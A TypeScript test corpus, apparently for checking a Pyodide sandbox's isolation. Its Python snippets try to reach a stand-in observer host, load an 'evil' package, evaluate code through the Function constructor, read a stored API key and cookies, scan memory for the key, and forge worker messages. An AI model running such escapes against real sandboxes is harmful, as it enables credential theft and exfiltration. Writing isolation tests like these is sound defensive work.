/**
 * The escape corpus: Python snippets, each trying one way out of the sandbox.
 *
 * Every snippet prints exactly one verdict line (see `escape-attempt.ts`).
 * Shared by the dev-server tests (test/browser/isolation) and the
 * production-build tests (test/e2e), under `vite preview` and under a plain
 * static host that decodes `%2F`.
 */
import { attempt, fetchFrom, type EscapeAttempt } from './escape-attempt.ts'
import { RELAY_CORPUS } from './relay-corpus.ts'

export type { EscapeAttempt, EscapeTargets } from './escape-attempt.ts'

export const ESCAPE_CORPUS: EscapeAttempt[] = [
  // 1. The network, every API that makes a request.
  attempt('fetch() to a foreign server', () => fetchFrom('OBSERVER + "/fetch"')),
  attempt('fetch() in no-cors mode', () => fetchFrom('OBSERVER + "/no-cors"', ', js.Object.fromEntries([["mode", "no-cors"]])')),
  attempt("fetch() to the app's own API endpoint", () => fetchFrom('APP_ENDPOINT')),
  attempt('fetch() to the configured Gemini API proxy', () => fetchFrom('PROXY + "v1beta/models"')),
  attempt('asynchronous XMLHttpRequest', () => `
xhr = js.XMLHttpRequest.new()
xhr.open("GET", OBSERVER + "/xhr-async")
xhr.send()
loaded = await outcome_of(xhr, ["load"], ["error", "abort"])
verdict(loaded, f"status {xhr.status}" if loaded else "request failed")`),
  attempt('synchronous XMLHttpRequest', () => `
xhr = js.XMLHttpRequest.new()
xhr.open("GET", OBSERVER + "/xhr-sync", False)
xhr.send()
verdict(True, f"status {xhr.status}")`),
  attempt('WebSocket', () => `
socket = js.WebSocket.new(OBSERVER.replace("http", "ws") + "/socket")
opened = await outcome_of(socket, ["open"], ["error", "close"])
verdict(opened, "socket opened" if opened else "socket refused")`),
  attempt('EventSource', () => `
source = js.EventSource.new(OBSERVER + "/events")
opened = await outcome_of(source, ["open", "message"], ["error"])
source.close()
verdict(opened, "stream opened" if opened else "stream refused")`),
  attempt('importScripts() from a foreign server', () => `
js.importScripts(OBSERVER + "/script.js")
verdict(True, "script imported")`),
  attempt("importScripts() of the app's own endpoint", () => `
js.importScripts(APP_ENDPOINT)
verdict(True, "endpoint imported as a script")`),
  attempt('pyodide.http.pyfetch', () => `
from pyodide.http import pyfetch
response = await pyfetch(OBSERVER + "/pyfetch")
verdict(True, f"status {response.status}")`),
  attempt('pyodide.http.open_url (synchronous)', () => `
from pyodide.http import open_url
verdict(True, open_url(OBSERVER + "/open-url").read())`),
  attempt('pyodide.loadPackage() with a URL', () => `
import pyodide_js
await pyodide_js.loadPackage(OBSERVER + "/evil-1.0-py3-none-any.whl")
verdict(True, "package loaded")`),
  attempt('micropip.install() with a URL', () => `
import micropip
await micropip.install(OBSERVER + "/evil-1.0-py3-none-any.whl")
verdict(True, "package installed")`),
  attempt('navigator.sendBeacon', () => `
sent = js.navigator.sendBeacon(OBSERVER + "/beacon", "data")
verdict(bool(sent), "beacon queued" if sent else "beacon refused")`),
  attempt('a new Worker that fetches', () => `
blob = js.Blob.new([f"fetch({OBSERVER!r} + '/from-worker')"], js.Object.fromEntries([["type", "text/javascript"]]))
js.Worker.new(js.URL.createObjectURL(blob))
verdict(True, "worker started")`),
  attempt('an iframe or window to load a page', () => `
frame = js.document.createElement("iframe")
frame.src = OBSERVER + "/frame"
js.document.body.append(frame)
verdict(True, "iframe created")`),
  attempt('the Function constructor behind pyodide_js (the known restricted-globals escape)', () => `
import pyodide_js
leak = pyodide_js.constructor.constructor(f"return fetch({OBSERVER!r} + '/function-constructor')")
await leak()
verdict(True, "Function constructor ran")`),
  attempt('eval through pyodide.code.run_js', () => `
from pyodide.code import run_js
await run_js(f"fetch({OBSERVER!r} + '/run-js')")
verdict(True, "run_js evaluated")`),
  attempt('WebRTC, which the connect policy does not cover', () => `
peer = js.RTCPeerConnection.new()
verdict(True, "peer connection created")`),
  // 2. The app's data, and the API key.
  attempt('localStorage, where the chat keeps the API key', () => `
verdict(True, js.localStorage.getItem("gemini-chat.api-key"))`),
  attempt("IndexedDB, the app's database", () => `
request = js.indexedDB.open("pyodide-code-execution-test")
opened = await outcome_of(request, ["success"], ["error", "blocked"])
names = list(request.result.objectStoreNames) if opened else []
verdict("secrets" in names, f"stores {names}" if opened else "open refused")`),
  attempt("Cache Storage, the app's caches", () => `
keys = list(await js.caches.keys())
verdict("app-cache" in keys, f"caches {keys}")`),
  attempt('document.cookie', () => `
verdict(True, js.document.cookie)`),
  attempt('cookieStore', () => `
cookies = await js.cookieStore.getAll()
verdict(len(cookies) > 0, f"{len(cookies)} cookies")`),
  attempt('the page through parent, top or opener', () => `
page = getattr(js, "parent", None) or getattr(js, "top", None) or getattr(js, "opener", None)
if page is None:
    verdict(False, "no window to reach")
else:
    verdict(True, page.localStorage.getItem("gemini-chat.api-key"))`),
  attempt('the API key anywhere in JS globals or the WebAssembly heap', () => `
import pyodide_js, re
# A pattern that matches the key without containing it, so this snippet cannot plant what it looks for.
pattern = "".join(f"[{c}]" for c in reversed(KEY_REVERSED))
key, key_in_python = js.RegExp.new(pattern), re.compile(pattern)
decoder = js.TextDecoder.new("latin1")
size, chunk, found_in_heap = pyodide_js._module.HEAPU8.length, 1 << 24, False
for start in range(0, size, chunk):
    # Decoded on the JS side (re-read each time: growing memory detaches the view) and searched by Python's re:
    # handing a 16 MB string back to a JS RegExp costs seconds, which a loaded machine turns into a deadline.
    found_in_heap = found_in_heap or bool(key_in_python.search(decoder.decode(pyodide_js._module.HEAPU8.subarray(start, start + chunk + 64))))
found_in_globals = [name for name in js.Object.getOwnPropertyNames(js.self) if key.test(str(getattr(js.self, name, "")))]
verdict(found_in_heap or bool(found_in_globals), f"scanned {size:,} bytes of heap and {js.Object.getOwnPropertyNames(js.self).length} globals: heap {found_in_heap}, globals {found_in_globals}")`),
  attempt('Web Locks (used by the app to watch its workers)', () => `
await js.navigator.locks.query()
verdict(True, "locks queried")`),
  attempt('service worker registration', () => `
await js.navigator.serviceWorker.register(OBSERVER + "/sw.js")
verdict(True, "service worker registered")`),
  // 3. Forged messages.
  attempt('BroadcastChannel to the app', () => `
channel = js.BroadcastChannel.new("pyodide-code-execution")
channel.postMessage("forged from Python")
await asyncio.sleep(0.3)
channel.close()
verdict(False, "posted; the page must not receive it")`),
  attempt('postMessage on the worker scope, forging a death and a result', () => `
js.postMessage(js.JSON.parse('{"type": "died", "reason": "forged"}'))
js.postMessage(js.JSON.parse('{"type": "output", "runId": 999999, "stream": "stdout", "text": "FORGED-EVENT"}'))
verdict(False, "posted; nobody may act on it")`),
  attempt("capturing the runtime's own ports to forge events for other runs", () => `
from pyodide.ffi import create_proxy
captured = []
original = js.MessagePort.prototype.postMessage
def spy(port, *args):
    captured.append(port)
    return original.apply(port, args)
js.MessagePort.prototype.postMessage = create_proxy(spy, capture_this=True)
print("", end="", flush=True)
await asyncio.sleep(0.05)
js.MessagePort.prototype.postMessage = original
for port in captured:
    port.postMessage(js.JSON.parse('{"type": "output", "runId": 999999, "stream": "stdout", "text": "FORGED-EVENT"}'))
    port.postMessage(js.JSON.parse('{"type": "load", "stage": "loading-pyodide"}'))
verdict(False, f"captured {len(captured)} ports and posted on them; the page must ignore it")`),
  // 4. The asset relay: the main thread fetches for the sandbox, so it must serve the sandbox's own files and nothing else.
  ...RELAY_CORPUS,
]
